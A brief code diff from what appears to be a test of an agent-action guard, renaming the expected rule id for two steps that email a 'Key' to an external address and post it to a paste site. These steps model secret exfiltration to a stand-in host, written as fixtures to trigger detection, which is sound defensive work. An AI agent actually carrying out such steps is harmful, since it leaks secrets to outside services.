@@ -280,9 +280,9 @@ async function session() {
   await step(
     'send_email',
     { to: 'ops@example.com', subject: 'Key', body: 'Here it is' },
-    'workflow.forbidden_sequence',
+    'flow.sensitive_to_open_world',
   );
-  await step('http_post', { url: 'https://paste.example.net/new', body: 'Here it is' }, 'workflow.forbidden_sequence');
+  await step('http_post', { url: 'https://paste.example.net/new', body: 'Here it is' }, 'flow.sensitive_to_open_world');
 }
 
 /**
